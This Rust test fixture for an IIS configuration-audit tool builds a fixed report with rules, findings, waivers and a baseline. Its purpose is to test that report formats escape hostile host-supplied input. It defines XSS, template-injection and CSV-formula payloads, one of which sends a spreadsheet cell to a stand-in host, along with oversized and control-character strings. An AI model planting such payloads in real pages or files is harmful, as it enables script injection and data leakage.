//! A fixed report for golden files and the browser test: fixed clock, fixed fingerprints, every
//! host status class, waivers, log evidence, a baseline, and hostile host-supplied strings.
//!
//! Shared by `tests/reports.rs` and `tests/browser/main.rs` (`#[path]` module).

#![allow(dead_code)]

use std::collections::BTreeMap;

use iis_sweep::finding::*;
use iis_sweep::report::model::*;

/// Strings a hostile or broken host could report. None of them may run or break a format.
pub const XSS_SCRIPT: &str = "</script><script>window.__pwned=1;document.title='pwned'</script>";
pub const XSS_IMG: &str = "\"><img src=x onerror=\"window.__pwned=2;document.title='pwned'\">";
pub const XSS_MUSTACHE: &str = "{{constructor.constructor('window.__pwned=3')()}}";
pub const EVIL_HOST: &str = "<script>window.__pwned=4</script>evil01";
pub const CSV_FORMULA: &str = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";

fn rule(
    code: &str,
    name: &str,
    title: &str,
    sub: &[Substatus],
    sev: Severity,
    refs: &[&str],
) -> RuleInfo {
    RuleInfo {
        code: code.into(),
        name: name.into(),
        title: title.into(),
        substatus: sub.to_vec(),
        severity: sev,
        what: format!("Checks that {title}."),
        why: format!(
            "When {title}, users get {}.",
            sub.iter()
                .map(|s| s.as_str())
                .collect::<Vec<_>>()
                .join(" or ")
        ),
        example: "<anonymousAuthentication enabled=\"false\" />".into(),
        fix: "Enable an authentication method for the path.".into(),
        references: refs.iter().map(|s| s.to_string()).collect(),
        nist: iis_sweep::rules::compliance::nist(code)
            .iter()
            .map(|s| s.to_string())
            .collect(),
    }
}

pub fn rules() -> Vec<RuleInfo> {
    vec![
        rule(
            "U101",
            "logon-type-denied",
            "the app-pool identity lacks the logon right",
            &[Substatus::LogonFailed],
            Severity::High,
            &["https://learn.microsoft.com/en-us/troubleshoot/developer/webapps/iis/health-diagnostic-performance/http-401-error", "CIS Microsoft IIS 10 Benchmark v1.2.1, 1.4"],
        ),
        rule(
            "U201",
            "no-authentication-method",
            "no authentication method is enabled",
            &[Substatus::ServerConfiguration],
            Severity::Critical,
            &["https://learn.microsoft.com/en-us/iis/configuration/system.webserver/security/authentication/", "DISA IIS 10.0 Site STIG V-218735", "NIST SP 800-53 AC-3, IA-2"],
        ),
        rule(
            "U301",
            "anonymous-user-cannot-read",
            "the anonymous user cannot read the content folder",
            &[Substatus::Acl],
            Severity::Medium,
            &["https://learn.microsoft.com/en-us/iis/get-started/planning-for-security/understanding-built-in-user-and-group-accounts-in-iis"],
        ),
        rule(
            "H901",
            "basic-auth-without-tls",
            "Basic authentication is allowed over plain HTTP",
            &[Substatus::Hygiene],
            Severity::Low,
            &[],
        ),
    ]
}

fn ev_config(path: &str, line: u32, text: &str) -> Evidence {
    Evidence {
        kind: EvidenceKind::Config,
        location: Some(path.into()),
        line: Some(line),
        text: text.into(),
    }
}

#[allow(clippy::too_many_arguments)]
fn finding(
    rule: &RuleInfo,
    host: &str,
    site: Option<&str>,
    app: Option<&str>,
    path: Option<&str>,
    message: &str,
    evidence: Vec<Evidence>,
    fix: &str,
    fp: &str,
) -> Finding {
    Finding {
        rule: rule.code.clone(),
        name: rule.name.clone(),
        severity: rule.severity,
        substatus: rule.substatus[0],
        host: host.into(),
        site: site.map(Into::into),
        application: app.map(Into::into),
        url_path: path.map(Into::into),
        physical_path: site.map(|s| format!(r"C:\inetpub\{s}")),
        message: message.into(),
        evidence,
        fix: fix.into(),
        references: rule.references.clone(),
        log_evidence: None,
        fingerprint: fp.into(),
        waived: None,
        drift: None,
        confidence: "certain".into(),
        steps: Vec::new(),
    }
}

fn host(name: &str, status: HostStatus, reason: Option<&str>, rules: &[RuleInfo]) -> HostResult {
    let evaluated = status.evaluated();
    HostResult {
        name: name.into(),
        status,
        reason: reason.map(Into::into),
        source: format!(
            "snapshots/{}.json",
            name.replace(['<', '>', '/', '=', '\''], "_")
        ),
        os: evaluated.then(|| "Windows Server 2022 Datacenter".to_string()),
        iis_version: evaluated.then(|| "10.0".to_string()),
        collected_at: evaluated.then(|| "2026-03-01T09:58:30Z".to_string()),
        timings: Timings {
            collect_ms: Some(1830),
            analyze_ms: 12,
        },
        sites: if evaluated { 2 } else { 0 },
        applications: if evaluated { 3 } else { 0 },
        findings: 0,
        rules_evaluated: if evaluated {
            rules.iter().map(|r| r.code.clone()).collect()
        } else {
            Vec::new()
        },
        not_evaluated: Vec::new(),
        problems: Vec::new(),
        coverage: coverage(evaluated),
        log_401: BTreeMap::new(),
        log_401_sites: BTreeMap::new(),
    }
}

/// Every kind of fact evaluated, or none.
pub fn coverage(evaluated: bool) -> Coverage {
    let state = if evaluated {
        CoverageState::Evaluated
    } else {
        CoverageState::NotCollected
    };
    Coverage {
        evaluated,
        parts: ["applicationHost.config", "web.config files", "folder ACLs"]
            .into_iter()
            .map(|p| CoveragePart {
                part: p.into(),
                state,
                detail: None,
            })
            .collect(),
        not_seen: Vec::new(),
    }
}

fn base_report(hosts: Vec<HostResult>, findings: Vec<Finding>) -> Report {
    let mut r = Report {
        schema: REPORT_SCHEMA.into(),
        tool: ToolInfo {
            name: "iis-sweep".into(),
            version: "0.1.0".into(),
            ruleset: "2026.11.1".into(),
        },
        run: RunInfo {
            command: "check".into(),
            started: "2026-03-01T10:00:00Z".into(),
            finished: "2026-03-01T10:02:05Z".into(),
            inputs: vec!["snapshots/".into()],
            shard: None,
            interrupted: false,
            scope: Scope {
                complete: true,
                ..Default::default()
            },
        },
        hosts,
        findings,
        totals: Totals::default(),
        rules: rules(),
        baseline: None,
        notes: Vec::new(),
    };
    for h in &mut r.hosts {
        h.findings = r
            .findings
            .iter()
            .filter(|f| f.host == h.name && f.waived.is_none())
            .count() as u32;
    }
    r.sort();
    r.recompute_totals();
    r
}

/// The fixed report, without drift.
pub fn report() -> Report {
    let rs = rules();
    let (u101, u201, u301, h901) = (&rs[0], &rs[1], &rs[2], &rs[3]);
    let mut web01 = host("web01.corp.example", HostStatus::Ok, None, &rs);
    web01.log_401.insert(
        "1".into(),
        BTreeMap::from([("401.2/5".to_string(), 12), ("401.3/5".to_string(), 4)]),
    );
    let mut web02 = host(
        "web02.corp.example",
        HostStatus::Partial,
        Some("folder ACLs could not be read"),
        &rs,
    );
    web02.rules_evaluated.retain(|c| c != "U301");
    web02.not_evaluated.push(NotEvaluated {
        rule: "U301".into(),
        reason: "not collected: folder ACLs".into(),
    });
    web02
        .problems
        .push(r"C:\inetpub\intranet: access denied reading the security descriptor".into());
    let evil = host(EVIL_HOST, HostStatus::Ok, None, &rs);
    let web03 = host(
        "web03.corp.example",
        HostStatus::Unreachable,
        Some("connection refused (tcp/5986)"),
        &rs,
    );
    let app01 = host(
        "app01.corp.example",
        HostStatus::AuthFailed,
        Some("HTTP 401 from WinRM: credentials rejected"),
        &rs,
    );

    let mut f1 = finding(
        u201,
        "web01.corp.example",
        Some("Default Web Site"),
        Some("/"),
        Some("/"),
        "No authentication method is enabled for /, so every request gets 401.2.",
        vec![
            ev_config(
                r"C:\Windows\System32\inetsrv\config\applicationHost.config",
                212,
                "<anonymousAuthentication enabled=\"false\" />",
            ),
            ev_config(
                r"C:\inetpub\wwwroot\web.config",
                7,
                "<windowsAuthentication enabled=\"false\" />",
            ),
        ],
        r#"%windir%\system32\inetsrv\appcmd.exe set config "Default Web Site/" -section:system.webServer/security/authentication/windowsAuthentication /enabled:"True" /commit:apphost"#,
        "6f1c2a9e0b7d4e5f8a9b0c1d2e3f40516273849a5b6c7d8e9f00112233445566",
    );
    f1.log_evidence = Some(LogEvidence {
        site_id: 1,
        count: 12,
        by_win32: BTreeMap::from([("5".to_string(), 12)]),
        first: Some("2026-02-28T22:01:13Z".into()),
        last: Some("2026-03-01T09:41:55Z".into()),
    });
    let f2 = finding(
        u101,
        "web01.corp.example",
        Some("Default Web Site"),
        Some("/payroll"),
        Some("/payroll"),
        r"IIS AppPool\Payroll has no 'Log on as a batch job' right; logons fail with 401.1.",
        vec![Evidence {
            kind: EvidenceKind::Registry,
            location: Some(r"HKLM\SECURITY\Policy\Accounts".into()),
            line: None,
            text: "SeBatchLogonRight: S-1-5-32-544".into(),
        }],
        "secedit /configure /db secedit.sdb /cfg batch-logon.inf /areas USER_RIGHTS",
        "0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9",
    );
    let mut f3 = finding(
        u301,
        "web01.corp.example",
        Some("Intranet Ä"),
        Some("/"),
        Some("/docs"),
        "IUSR (S-1-5-17) cannot read C:\\inetpub\\Intranet Ä\\docs.",
        vec![Evidence {
            kind: EvidenceKind::Acl,
            location: Some(r"C:\inetpub\Intranet Ä\docs".into()),
            line: None,
            text: "D:P(A;OICI;FA;;;SY)(A;OICI;FA;;;BA)".into(),
        }],
        r#"icacls "C:\inetpub\Intranet Ä\docs" /grant "*S-1-5-17:(OI)(CI)RX""#,
        "1111111111111111111111111111111111111111111111111111111111111111",
    );
    f3.waived = Some(WaiverInfo {
        justification: "Intranet docs are Windows-auth only; ticket CHG-1042".into(),
        expires: "2026-06-30".into(),
    });
    // Hostile strings in every field a host can influence.
    let f4 = finding(
        u201,
        EVIL_HOST,
        Some(XSS_MUSTACHE),
        Some(XSS_IMG),
        Some("/<b>bold</b>"),
        &format!(
            "Message with {XSS_SCRIPT} and {XSS_IMG} and {XSS_MUSTACHE}\u{1}\u{FFFE}\u{2028}end"
        ),
        vec![ev_config(
            &format!(r"C:\inetpub\{XSS_IMG}\web.config"),
            3,
            XSS_SCRIPT,
        )],
        CSV_FORMULA,
        "2222222222222222222222222222222222222222222222222222222222222222",
    );
    let f5 = finding(
        h901,
        "web02.corp.example",
        Some("Legacy"),
        Some("/"),
        Some("/"),
        "Basic authentication is enabled on an http binding (port 80).",
        vec![ev_config(
            r"C:\Windows\System32\inetsrv\config\applicationHost.config",
            340,
            "<basicAuthentication enabled=\"true\" />",
        )],
        "-Remove the http binding or require SSL",
        "3333333333333333333333333333333333333333333333333333333333333333",
    );
    base_report(
        vec![web01, web02, evil, web03, app01],
        vec![f1, f2, f3, f4, f5],
    )
}

/// The fixed report compared with a baseline: f5 is new, the rest unchanged, and one baseline
/// finding (on web01) is resolved.
pub fn report_with_baseline() -> Report {
    let mut current = report();
    let mut baseline = report();
    baseline.findings.retain(|f| {
        f.fingerprint != "3333333333333333333333333333333333333333333333333333333333333333"
    });
    let rs = rules();
    let gone = finding(
        &rs[2],
        "web01.corp.example",
        Some("Default Web Site"),
        Some("/"),
        Some("/images"),
        "IUSR cannot read C:\\inetpub\\wwwroot\\images.",
        vec![],
        r#"icacls "C:\inetpub\wwwroot\images" /grant "*S-1-5-17:(OI)(CI)RX""#,
        "4444444444444444444444444444444444444444444444444444444444444444",
    );
    // A finding of an unreachable host is unknown now, not resolved.
    let unknown = finding(
        &rs[0],
        "web03.corp.example",
        Some("Default Web Site"),
        Some("/"),
        Some("/"),
        "old finding of a host that is unreachable now",
        vec![],
        "n/a",
        "5555555555555555555555555555555555555555555555555555555555555555",
    );
    baseline.findings.push(gone);
    baseline.findings.push(unknown);
    iis_sweep::report::drift::compare(&mut current, &baseline, "previous/report.json");
    current
}

/// The fixture report plus a failed host with a 100 KB name and a finding on a site named with a
/// right-to-left override, zero-width and control characters (issue: hostile and long strings).
pub fn hostile_report() -> Report {
    let mut r = report();
    let rs = rules();
    let long = format!("h{}", "x".repeat(100_000));
    r.hosts.push(host(
        &long,
        HostStatus::Unreachable,
        Some("connection refused"),
        &rs,
    ));
    let mut f = r.findings[0].clone();
    f.host = r.hosts[0].name.clone();
    f.site = Some("\u{202E}evil-site\u{200B}\u{7}".into());
    f.url_path = Some(format!("/{}", "segment/".repeat(2_000)));
    f.message = format!("A message with a {} word", "w".repeat(5_000));
    f.fingerprint = "3".repeat(64);
    r.findings.push(f);
    r.recompute_totals();
    r
}
